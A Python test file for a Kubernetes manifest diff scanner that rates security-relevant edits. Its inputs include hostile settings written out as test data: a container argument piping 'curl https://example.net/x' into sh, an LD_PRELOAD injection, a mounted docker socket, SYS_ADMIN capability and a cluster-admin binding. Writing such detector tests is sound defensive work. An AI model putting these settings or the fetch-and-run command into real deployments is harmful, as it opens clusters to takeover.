"""What an edit of a Kubernetes manifest means."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from kit.patience import within

from scanner.formats.deployment import kubernetes

BASE = """\
# the web front
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, labels: {app: web}}
spec:
  replicas: 2
  template:
    metadata:
      annotations: {note: hello}
    spec:
      serviceAccountName: web
      securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}
      containers:
        - name: app
          image: example.org/web:1.2
          command: ["/app"]
          args: ["--serve"]
          env: [{name: MODE, value: fast}]
          resources: {limits: {cpu: "1"}}
          securityContext:
            allowPrivilegeEscalation: false
            capabilities: {drop: [ALL]}
        - name: side
          image: example.org/side:3
      volumes: [{name: tmp, emptyDir: {}}]
---
apiVersion: v1
kind: Service
metadata: {name: web}
spec: {type: ClusterIP, ports: [{name: http, port: 80}]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: web}
rules:
  - {apiGroups: [""], resources: [configmaps], verbs: [get, list]}
---
apiVersion: v1
kind: Secret
metadata: {name: keys}
stringData: {token: one}
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: {name: deny}
spec: {podSelector: {}}
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: {name: guard}
webhooks:
  - {name: guard.example.org, failurePolicy: Fail, clientConfig: {url: "https://guard.example.org"}}
"""
POD = "Deployment/web.spec.template.spec"
APP = f"{POD}.containers[app]"


def said(old: str | None, new: str | None) -> list[str]:
    sides = (None if side is None else side.encode() for side in (old, new))
    return [f"{each.severity} {each.kind} {each.subject}" for each in kubernetes.diff(*sides)]


@pytest.mark.parametrize(
    "path", ["k8s/base/web.yaml", "manifests/a.yml", "infra/charts/tool/templates/rbac.yaml", "deploy/prod/web.yaml"]
)
def test_reads(path: str) -> None:
    assert kubernetes.matches(path)


@pytest.mark.parametrize(
    "path",
    ["src/k8s/client.yaml", "k8s/README.md", "k8s/kustomization.yaml", "charts/a/Chart.yaml", "charts/a/values.yaml"],
)
def test_leaves_to_others(path: str) -> None:
    assert not kubernetes.matches(path)


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        pytest.param("web:1.2", "web:1.3", "medium image-bumped example.org/web", id="image"),
        pytest.param("web:1.2", "web:latest", "high image-unpinned example.org/web", id="latest"),
        pytest.param("example.org/web", "example.net/web", "high image-changed example.net/web", id="registry"),
        pytest.param(
            "drop: [ALL]}",
            "drop: [ALL]}\n            privileged: true",
            f"critical privilege-widened {APP}.securityContext.privileged",
            id="privileged",
        ),
        pytest.param(
            "Escalation: false",
            "Escalation: true",
            f"high privilege-widened {APP}.securityContext.allowPrivilegeEscalation",
            id="escalation",
        ),
        pytest.param(
            "{drop: [ALL]}",
            "{add: [SYS_ADMIN], drop: [ALL]}",
            f"critical privilege-widened {APP}.securityContext.capabilities.add",
            id="capability",
        ),
        pytest.param(
            "{drop: [ALL]}",
            "{drop: []}",
            f"high privilege-widened {APP}.securityContext.capabilities.drop",
            id="capabilities back",
        ),
        pytest.param(
            "runAsNonRoot: true",
            "runAsNonRoot: false",
            f"high privilege-widened {POD}.securityContext.runAsNonRoot",
            id="may be root",
        ),
        pytest.param(
            "runAsNonRoot: true",
            "runAsNonRoot: true, runAsUser: 0",
            f"high privilege-widened {POD}.securityContext.runAsUser",
            id="is root",
        ),
        pytest.param(
            "RuntimeDefault",
            "Unconfined",
            f"high privilege-widened {POD}.securityContext.seccompProfile.type",
            id="unconfined",
        ),
        pytest.param(
            "emptyDir: {}",
            "hostPath: {path: /var/run/docker.sock}",
            f"critical privilege-widened {POD}.volumes[tmp].hostPath.path",
            id="socket",
        ),
        pytest.param(
            "emptyDir: {}",
            "hostPath: {path: /srv}",
            f"high privilege-widened {POD}.volumes[tmp].hostPath.path",
            id="host path",
        ),
        pytest.param(
            "      volumes:",
            "      hostNetwork: true\n      volumes:",
            f"high privilege-widened {POD}.hostNetwork",
            id="host network",
        ),
        pytest.param(
            "serviceAccountName: web",
            "serviceAccountName: admin",
            f"medium privilege-widened {POD}.serviceAccountName",
            id="account",
        ),
        pytest.param('["/app"]', '["/bin/sh"]', f"high entry-point-changed {APP}.command", id="command"),
        pytest.param('["--serve"]', '["--eval"]', f"medium entry-point-changed {APP}.args", id="arguments"),
        pytest.param(
            '["--serve"]',
            '["-c", "curl https://example.net/x | sh"]',
            f"critical download-and-run {APP}.args",
            id="fetch and run",
        ),
        pytest.param("value: fast", "value: slow", f"medium env-changed {APP}.env[MODE].value", id="variable"),
        pytest.param(
            "value: fast}",
            "value: fast}, {name: LD_PRELOAD, value: /x}",
            f"high env-changed {APP}.env[LD_PRELOAD].value",
            id="preload",
        ),
        pytest.param(
            "value: fast}",
            "value: fast}, {name: API_TOKEN, value: zz81kkQ}",
            f"high secret-exposed {APP}.env[API_TOKEN].value",
            id="token",
        ),
        pytest.param(
            "ClusterIP", "LoadBalancer", "high exposure-widened Service/web.spec.type", id="open to the world"
        ),
        pytest.param("verbs: [get, list]", 'verbs: ["*"]', "critical privilege-widened Role/web.rules", id="all verbs"),
        pytest.param(
            "resources: [configmaps]",
            "resources: [configmaps, secrets]",
            "critical privilege-widened Role/web.rules",
            id="secrets",
        ),
        pytest.param(
            "verbs: [get, list]",
            "verbs: [get, list, patch]",
            "high privilege-widened Role/web.rules",
            id="one verb more",
        ),
        pytest.param("verbs: [get, list]", "verbs: [get]", "low privilege-narrowed Role/web.rules", id="one verb less"),
        pytest.param(
            "token: one", "token: two", "high secret-exposed Secret/keys.stringData.token", id="secret in clear"
        ),
        pytest.param(
            "failurePolicy: Fail",
            "failurePolicy: Ignore",
            "high check-weakened ValidatingWebhookConfiguration/guard.webhooks[guard.example.org].failurePolicy",
            id="webhook passed by",
        ),
        pytest.param(
            "https://guard.example.org",
            "https://guard.example.net",
            "high hook-changed ValidatingWebhookConfiguration/guard.webhooks[guard.example.org].clientConfig",
            id="webhook elsewhere",
        ),
        pytest.param(
            "replicas: 2", "replicas: 3", "low deployment-changed Deployment/web.spec.replicas", id="replicas"
        ),
        pytest.param('cpu: "1"', 'cpu: "2"', f"low deployment-changed {APP}.resources.limits.cpu", id="resources"),
        pytest.param(
            "note: hello",
            "note: bye",
            "low deployment-changed Deployment/web.spec.template.metadata.annotations.note",
            id="annotation",
        ),
        pytest.param(
            "{note: hello}",
            "{note: hello, example.org/role-arn: x}",
            "medium deployment-changed Deployment/web.spec.template.metadata.annotations.example.org/role-arn",
            id="role by annotation",
        ),
        pytest.param("port: 80", "port: 81", "medium deployment-changed Service/web.spec.ports[http].port", id="port"),
    ],
)
def test_an_edit_means(old: str, new: str, expected: str) -> None:
    assert old in BASE
    found = said(BASE, BASE.replace(old, new))
    assert expected in found
    assert len(found) <= 2


@pytest.mark.parametrize(
    ("old", "new"),
    [
        pytest.param("# the web front", "# other words", id="comment"),
        pytest.param('cpu: "1"', "cpu: '1'", id="quotes"),
        pytest.param("verbs: [get, list]", "verbs: [list, get]", id="order of verbs"),
        pytest.param('cpu: "1"', "cpu: 1", id="quoted or not"),
    ],
)
def test_an_edit_means_nothing(old: str, new: str) -> None:
    assert old in BASE
    assert said(BASE, BASE.replace(old, new)) == []


def test_moved_objects_and_containers_mean_nothing() -> None:
    documents = BASE.split("---\n")
    assert said(BASE, "---\n".join(reversed(documents))) == []
    side = "        - name: side\n          image: example.org/side:3\n"
    assert said(BASE, BASE.replace(side, "").replace("      containers:\n", f"      containers:\n{side}")) == []


def test_objects_come_and_go() -> None:
    binding = (
        "---\napiVersion: v1\nkind: ClusterRoleBinding\nmetadata: {name: b}\n"
        "roleRef: {kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: ServiceAccount, name: x}]\n"
    )
    assert said(BASE, BASE + binding) == [
        "high deployment-changed ClusterRoleBinding/b",
        "critical privilege-widened ClusterRoleBinding/b.roleRef",
        "critical privilege-widened ClusterRoleBinding/b.subjects",
    ]
    policy = next(each for each in BASE.split("---\n") if "NetworkPolicy" in each)
    assert said(BASE, BASE.replace(f"---\n{policy}", "")) == ["high protection-removed NetworkPolicy/deny"]
    ingress = "---\napiVersion: v1\nkind: Ingress\nmetadata: {name: i}\nspec: {}\n"
    assert said(BASE, BASE + ingress) == ["high exposure-widened Ingress/i"]


def test_what_a_release_installs_is_a_dependency() -> None:
    old = (
        "apiVersion: helm.example.org/v2\nkind: HelmRelease\nmetadata: {name: r}\n"
        "spec: {chart: {spec: {chart: tool, version: 1.2.3, sourceRef: {name: repo}}}, values: {version: 1}}\n"
    )
    assert said(old, old.replace("1.2.3", "1.3.0")) == ["medium dependency-bumped tool"]
    assert said(old, old.replace("1.2.3", "'*'")) == ["high pin-loosened tool"]
    assert said(old, old.replace("version: 1}", "version: 2}")) == [
        "medium deployment-changed HelmRelease/r.spec.values.version"
    ]


def test_other_yaml_weighs_medium_at_most() -> None:
    assert said("a: {privileged: false}\n", "a: {privileged: true}\n") == ["medium deployment-changed a.privileged"]
    assert said("- op: add\n", "- op: remove\n") == ["medium deployment-changed file"]


def test_templates_are_read_without_their_actions() -> None:
    old = (
        "{{- if .Values.on }}\napiVersion: v1\nkind: Pod\nmetadata:\n  name: {{ .Values.name }}\n"
        '  labels:\n    {{- include "x" . | nindent 4 }}\nspec:\n  hostNetwork: false\n{{- end }}\n'
    )
    (found,) = said(old, old.replace("hostNetwork: false", "hostNetwork: true"))
    assert found.startswith("high privilege-widened Pod/")
    assert said(old, old.replace("if .Values.on", "if .Values.off")) == ["medium deployment-changed template"]


@pytest.mark.parametrize("content", ["a: [", "kind: A\nkind: B\n", "<<<<<<< x\na: 1\n", "a: {{ b }}: [\n", "a: \0"])
def test_what_cannot_be_read_is_told(content: str) -> None:
    (found,) = kubernetes.diff(BASE.encode(), content.encode())
    assert (found.kind, found.severity) == ("opaque", "critical")


def test_new_and_removed() -> None:
    new = said(None, BASE.replace("hostPath", "x") + "---\napiVersion: v1\nkind: Pod\nspec: {hostPID: true}\n")
    assert "medium image-added example.org/web" in new
    assert "high privilege-widened Pod.spec.hostPID" in new
    assert "high secret-exposed Secret/keys.stringData.token" in new
    assert said(BASE, None) == ["medium file-removed file"]


def test_large_files_take_no_time() -> None:
    one = "---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: a%d}\ndata: {x: y}\n"
    bundle = "".join(one % number for number in range(40_000))
    with within(3):
        assert said(bundle, bundle.replace("a77}", "a77}\nextra: 1")) == [
            "medium deployment-changed ConfigMap/a77.extra"
        ]
    flat = "apiVersion: v1\nkind: X\nspec:\n" + "".join(f"  k{number}Image: a:1\n" for number in range(20_000))
    with within(3):
        list(kubernetes.diff(flat.encode(), flat.replace("a:1", "a:2").encode()))
    with within(3):
        list(kubernetes.diff(b"a: 1\n", b"{{/*" * 200_000 + b"*/"))


@settings(max_examples=100, deadline=None)
@given(st.data())
def test_mutilated_files_have_an_answer(data: st.DataObject) -> None:
    text = BASE
    for _ in range(data.draw(st.integers(1, 3))):
        start = data.draw(st.integers(0, len(text)))
        end = data.draw(st.integers(start, min(len(text), start + 30)))
        text = (
            text[:start] + data.draw(st.sampled_from(["", "[]", "1", "null", "{a: 1}", "- x", "{{ a }}"])) + text[end:]
        )
    said(BASE, text)
    said(text, BASE)
    said(None, text)
